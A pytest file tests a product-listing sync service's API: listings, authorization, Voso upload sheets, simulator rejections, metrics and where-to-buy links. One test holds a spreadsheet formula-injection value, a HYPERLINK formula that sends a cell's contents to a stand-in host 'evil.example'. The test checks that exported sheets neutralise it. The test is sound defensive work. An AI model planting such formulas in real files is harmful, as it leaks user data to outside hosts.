"""The sync service's HTTP API on PostgreSQL, with product events delivered as the worker does."""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sync_factories import Deliver, make_product, with_status

from ocop_contracts import CertificateExpired, CertificateIssued, ProductChanged, ProductMerged
from ocop_kit.auth import issue_token
from ocop_kit.tables import OutboxEvent
from ocop_marketplace_simulator import SimConfig, SimState, channel_urls
from ocop_marketplace_sync.app import create_app
from ocop_marketplace_sync.channels.config import load_channels
from ocop_marketplace_sync.listings.run import ChannelSync
from ocop_marketplace_sync.settings import Settings


@dataclass
class Api:
    client: TestClient
    settings: Settings
    deliver: Deliver

    def headers(self, role: str = "sync_operator", **scope: str) -> dict[str, str]:
        token = issue_token(self.settings, role, **scope)  # type: ignore[arg-type]
        return {"Authorization": f"Bearer {token}"}

    def listings(self, role: str = "sync_operator", **params: str) -> list[dict]:
        response = self.client.get("/v1/listings", params=params, headers=self.headers(role))
        assert response.status_code == 200, response.text
        return response.json()["items"]

    def sync(self, channel: str) -> None:
        channels = load_channels(self.settings)
        ChannelSync(self.deliver.db, self.settings, channels[channel]).run()


def make_api(postgres_url: str, tmp_path: Path, sim_url: str | None) -> Iterator[Api]:
    settings = Settings(
        database_url=postgres_url,
        data_dir=tmp_path,
        channel_base_urls=channel_urls(sim_url) if sim_url else {},
        channel_rate_limit_cap=50 if sim_url else None,
        retry_base_seconds=0.01,
    )
    with TestClient(create_app(settings)) as client:
        yield Api(client, settings, Deliver(client.app.state.db, load_channels(settings)))


@pytest.fixture
def api(postgres_url: str, tmp_path: Path) -> Iterator[Api]:
    yield from make_api(postgres_url, tmp_path, None)


def test_certified_product_gets_a_pending_listing_on_each_chosen_channel(api):
    product = make_product(channels=["shopee", "voso"])
    api.deliver(CertificateIssued, product)
    rows = api.listings(product_id=product.id)
    assert {(r["channel"], r["status"]) for r in rows} == {
        ("shopee", "pending"),
        ("voso", "pending"),
    }
    assert all(r["sku"] == product.id and r["external_id"] is None for r in rows)
    # Nothing is on sale yet, so nothing is announced (`listing.changed` is for going on or
    # coming off a marketplace).
    assert announced(api) == []


def announced(api: Api) -> list[tuple[str, str]]:
    """The `listing.changed` events published so far: (channel, status), oldest first."""
    with api.deliver.db.session() as session:
        events = session.scalars(
            select(OutboxEvent)
            .where(OutboxEvent.event_type == "listing.changed")
            .order_by(OutboxEvent.seq)
        ).all()
        return [(e.body["payload"]["channel"], e.body["payload"]["status"]) for e in events]


def test_uncertified_product_gets_no_listing(api):
    product = make_product(channels=["shopee"], status=None)
    api.deliver(ProductChanged, product)
    assert api.listings(product_id=product.id) == []


def test_product_missing_what_the_channel_requires_is_blocked_with_the_fields(api):
    product = make_product(channels=["shopee", "provincial"], images=[], weight_grams=None)
    api.deliver(CertificateIssued, product)
    rows = {r["channel"]: r for r in api.listings(product_id=product.id)}
    assert rows["shopee"]["status"] == "blocked"
    assert rows["shopee"]["missing"] == ["images", "weight_grams"]
    # The provincial site asks only for a price.
    assert rows["provincial"]["status"] == "pending"
    retried = api.client.post(f"/v1/listings/{rows['shopee']['id']}/retry", headers=api.headers())
    assert retried.status_code == 409
    assert retried.json()["missing"] == ["images", "weight_grams"]
    fixed = product.model_copy(update={"images": ["https://img/x.jpg"], "weight_grams": 500})
    api.deliver(ProductChanged, fixed)
    shopee = api.listings(product_id=product.id, channel="shopee")[0]
    assert shopee["status"] == "pending" and shopee["missing"] == []


def test_expired_certificate_delists_product_on_every_channel(api):
    product = make_product(channels=["shopee", "lazada", "voso"])
    api.deliver(CertificateIssued, product)
    api.deliver(CertificateExpired, with_status(product, "expired"))
    rows = api.listings(product_id=product.id)
    assert {r["status"] for r in rows} == {"delisted"}
    # Never on sale, so neither its listing nor its delisting is announced.
    assert announced(api) == []


def test_product_merged_into_another_is_delisted_on_every_channel(api):
    from ocop_kit.consumer import consume

    product = make_product(channels=["shopee", "voso"])
    api.deliver(CertificateIssued, product)
    merged = ProductMerged(
        aggregate_id=product.id,
        version=10_000,
        payload=product.model_copy(update={"deleted": True}),
        merged_into="the-kept-product",
    )
    assert consume(api.deliver.db, merged, api.deliver.handlers) == "applied"
    assert {r["status"] for r in api.listings(product_id=product.id)} == {"delisted"}


def test_stale_product_event_changes_nothing(api):
    from ocop_kit.consumer import consume

    product = make_product(channels=["shopee"])
    api.deliver(CertificateIssued, product)
    old = CertificateExpired(
        aggregate_id=product.id, version=1, payload=with_status(product, "expired")
    )
    assert consume(api.deliver.db, old, api.deliver.handlers) == "stale"
    assert api.listings(product_id=product.id)[0]["status"] == "pending"


def test_voso_upload_sheet_holds_pending_rows_and_uploaded_marks_them_listed(api):
    products = [make_product(channels=["voso"], name=f"Mật ong {i}") for i in range(3)]
    for product in products:
        api.deliver(CertificateIssued, product)
    sheet = api.client.get("/v1/channels/voso/upload-sheet", headers=api.headers())
    assert sheet.status_code == 200
    rows = list(load_workbook(io.BytesIO(sheet.content)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("Mã dòng (listing id)", "Thao tác", "Mã SKU")
    assert sorted(r[2] for r in rows[1:]) == sorted(p.id for p in products)
    assert {r[1] for r in rows[1:]} == {"Thêm mới"}

    first_id = rows[1][0]
    marked = api.client.post(
        "/v1/channels/voso/uploaded", json={"listing_ids": [first_id]}, headers=api.headers()
    )
    assert marked.json() == {"listed": 1, "delisted": 0, "updated": 0}
    assert (
        api.client.post(
            "/v1/channels/voso/uploaded", json={"listing_ids": [first_id]}, headers=api.headers()
        ).status_code
        == 422
    )
    everything = api.client.post("/v1/channels/voso/uploaded", json={}, headers=api.headers())
    assert everything.json()["listed"] == 2
    assert {r["status"] for r in api.listings(channel="voso")} == {"listed"}
    assert announced(api) == [("voso", "listed")] * 3

    api.deliver(ProductChanged, products[0].model_copy(update={"price_vnd": 150_000}))
    api.deliver(CertificateExpired, with_status(products[1], "expired"))
    # The expired product's listing comes off the marketplace: announced; a new price is not.
    assert announced(api)[3:] == [("voso", "delisted")]
    csv_sheet = api.client.get(
        "/v1/channels/voso/upload-sheet", params={"format": "csv"}, headers=api.headers()
    )
    text = csv_sheet.content.decode("utf-8-sig")
    assert "Cập nhật" in text and "150000" in text and "Ngừng bán" in text
    assert products[2].id not in text


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_upload_sheet_cells_cannot_carry_formulas(api):
    """A name or description starting a formula comes out as text in both forms of the sheet
    (and the portal passes this sheet through as it is)."""
    product = make_product(channels=["voso"], name=HOSTILE_NAME, description="@SUM(A1:A9)")
    api.deliver(CertificateIssued, product)
    answer = api.client.get("/v1/channels/voso/upload-sheet", headers=api.headers())
    sheet = load_workbook(io.BytesIO(answer.content)).active
    name, description = sheet.cell(row=2, column=4), sheet.cell(row=2, column=9)
    assert (name.data_type, name.value) == ("s", "'" + HOSTILE_NAME)
    assert (description.data_type, description.value) == ("s", "'@SUM(A1:A9)")
    assert sheet.cell(row=2, column=6).value == 120_000  # numbers stay numbers
    csv_sheet = api.client.get(
        "/v1/channels/voso/upload-sheet", params={"format": "csv"}, headers=api.headers()
    )
    rows = list(csv.reader(io.StringIO(csv_sheet.content.decode("utf-8-sig"))))
    assert rows[1][3] == "'" + HOSTILE_NAME and rows[1][8] == "'@SUM(A1:A9)"


def test_upload_sheet_is_only_for_bulk_file_channels_and_operators(api):
    assert (
        api.client.get("/v1/channels/shopee/upload-sheet", headers=api.headers()).status_code == 409
    )
    producer = api.headers("producer", producer_id="p1")
    assert api.client.get("/v1/channels/voso/upload-sheet", headers=producer).status_code == 403
    assert api.client.get("/v1/channels/voso/upload-sheet").status_code == 401


def test_producer_sees_only_its_own_listings(api):
    mine = make_product(channels=["shopee"])
    theirs = make_product(channels=["shopee"])
    api.deliver(CertificateIssued, mine)
    api.deliver(CertificateIssued, theirs)
    seen = api.client.get(
        "/v1/listings", headers=api.headers("producer", producer_id=mine.producer.id)
    ).json()["items"]
    assert [r["product_id"] for r in seen] == [mine.id]
    officer = api.headers("province_officer", province_code="01")
    assert api.client.get("/v1/listings", headers=officer).json()["items"] == []
    assert api.client.get("/v1/listings", headers=api.headers("council_member")).status_code == 403
    assert api.client.get("/v1/listings").status_code == 401
    other = api.listings(product_id=theirs.id)[0]["id"]
    producer = api.headers("producer", producer_id=mine.producer.id)
    assert api.client.get(f"/v1/listings/{other}", headers=producer).status_code == 403


def test_listing_filters_are_validated_and_paginated(api):
    for _ in range(3):
        api.deliver(CertificateIssued, make_product(channels=["tiki"]))
    bad = api.client.get("/v1/listings", params={"status": "gone"}, headers=api.headers())
    assert bad.status_code == 422
    page = api.client.get("/v1/listings", params={"limit": 2}, headers=api.headers()).json()
    assert len(page["items"]) == 2 and page["next_cursor"]
    rest = api.client.get(
        "/v1/listings", params={"limit": 2, "cursor": page["next_cursor"]}, headers=api.headers()
    ).json()
    assert len(rest["items"]) == 1 and rest["next_cursor"] is None


def test_channels_show_their_settings_but_never_credentials(api):
    response = api.client.get("/v1/channels")
    assert response.status_code == 200
    channels = {c["code"]: c for c in response.json()}
    assert channels["voso"]["mode"] == "bulk_file"
    assert channels["lazada"]["batch_price_size"] == 50
    assert "sim-shopee-partner-key" not in response.text
    assert "credentials" not in response.text
    assert api.client.get("/v1/channels/nowhere").status_code == 404


@pytest.fixture
def api_with_sim(postgres_url, tmp_path, simulator) -> Iterator[Api]:
    yield from make_api(postgres_url, tmp_path, simulator(rate_limit=50, reject_rate=0.5))


def test_rejected_product_fails_with_the_platform_message_and_can_be_retried(api_with_sim):
    api = api_with_sim
    judge = SimState(SimConfig(reject_rate=0.5), random.Random())
    products = [make_product(channels=["postmart"], name=f"Trà {i}") for i in range(8)]
    while not 2 <= sum(judge.rejects(p.id) for p in products) <= len(products) - 2:
        products = [make_product(channels=["postmart"], name=f"Trà {i}") for i in range(8)]
    for product in products:
        api.deliver(CertificateIssued, product)
    api.sync("postmart")
    rows = api.listings(channel="postmart")
    failed = [r for r in rows if r["status"] == "failed"]
    listed = [r for r in rows if r["status"] == "listed"]
    assert {r["product_id"] for r in failed} == {p.id for p in products if judge.rejects(p.id)}
    assert all("vi phạm" in r["last_error"] and "violates" in r["last_error"] for r in failed)
    assert all(r["external_id"] for r in listed)

    retried = api.client.post(f"/v1/listings/{failed[0]['id']}/retry", headers=api.headers())
    assert retried.status_code == 202
    assert retried.json()["status"] == "pending"
    assert (
        api.client.post(f"/v1/listings/{listed[0]['id']}/retry", headers=api.headers()).status_code
        == 409
    )
    stranger = api.headers("producer", producer_id="someone-else")
    assert (
        api.client.post(f"/v1/listings/{failed[1]['id']}/retry", headers=stranger).status_code
        == 403
    )

    stats = api.client.get("/v1/sync/stats").json()
    postmart = stats["channels"]["postmart"]
    assert postmart["by_status"]["listed"] == len(listed)
    assert postmart["failures_last_day"] == len(failed)
    assert stats["certified_products"] == 8
    assert stats["certified_on_any_channel"] == len(listed)
    assert stats["share_on_any_channel"] == round(len(listed) / 8, 4)

    metrics = api.client.get("/metrics").text
    assert (
        f'ocop_sync_failures_total{{channel="postmart",result="rejected"}} {float(len(failed))}'
        in metrics
    )
    assert (
        f'ocop_sync_listings{{channel="postmart",status="failed"}} {float(len(failed) - 1)}'
        in metrics
    )
    assert 'ocop_sync_listings{channel="postmart",status="pending"} 1.0' in metrics


def test_shoppers_see_where_a_certified_product_is_on_sale_without_a_token(api):
    product = make_product(channels=["shopee", "voso"], price_vnd=85_000)
    api.deliver(CertificateIssued, product)
    assert api.client.get(f"/v1/products/{product.id}/where-to-buy").json() == []
    uploaded = api.client.post("/v1/channels/voso/uploaded", json={}, headers=api.headers())
    assert uploaded.status_code == 200, uploaded.text

    shops = api.client.get(f"/v1/products/{product.id}/where-to-buy")
    assert shops.status_code == 200
    assert [(s["channel"], s["channel_name"], s["price_vnd"]) for s in shops.json()] == [
        ("voso", "Voso (Viettel Post)", 85_000)
    ]
    assert "last_error" not in shops.text and "shop_id" not in shops.text

    api.deliver(CertificateExpired, with_status(product, "expired"))
    assert api.client.get(f"/v1/products/{product.id}/where-to-buy").json() == []


def test_where_to_buy_links_each_listing_to_its_page_on_the_marketplace(api_with_sim):
    api = api_with_sim
    # This simulator refuses half the products (by id): take one it accepts.
    judge = SimState(SimConfig(reject_rate=0.5), random.Random())
    product = make_product(channels=["shopee", "lazada"], name="Nước mắm Hải Đông")
    while judge.rejects(product.id):
        product = make_product(channels=["shopee", "lazada"], name="Nước mắm Hải Đông")
    api.deliver(CertificateIssued, product)
    api.sync("shopee")
    api.sync("lazada")
    listed = {
        r["channel"]: r for r in api.listings(product_id=product.id) if r["status"] == "listed"
    }
    assert set(listed) == {"shopee", "lazada"}

    shops = {
        s["channel"]: s for s in api.client.get(f"/v1/products/{product.id}/where-to-buy").json()
    }
    shopee_shop = load_channels(api.settings)["shopee"].shops[0].shop_id
    assert shops["shopee"]["listing_url"] == (
        f"https://shopee.vn/product/{shopee_shop}/{listed['shopee']['external_id']}"
    )
    assert shops["lazada"]["listing_url"] == (
        f"https://www.lazada.vn/products/i{listed['lazada']['external_id']}.html"
    )
    assert shops["shopee"]["price_vnd"] == product.price_vnd


def test_listing_pages_need_the_channels_item_id_and_spell_names_without_diacritics(api):
    channels = load_channels(api.settings)
    assert channels["sendo"].listing_page("s1", "5051845", "Đồng hồ nữ Đà Lạt") == (
        "https://www.sendo.vn/san-pham/dong-ho-nu-da-lat-5051845/"
    )
    assert channels["shopee"].listing_page("220001", None) is None
    # Voso's sheet upload never tells us Voso's own id: no page to link.
    assert channels["voso"].listing_page("ocop-vn", "our-sku") is None
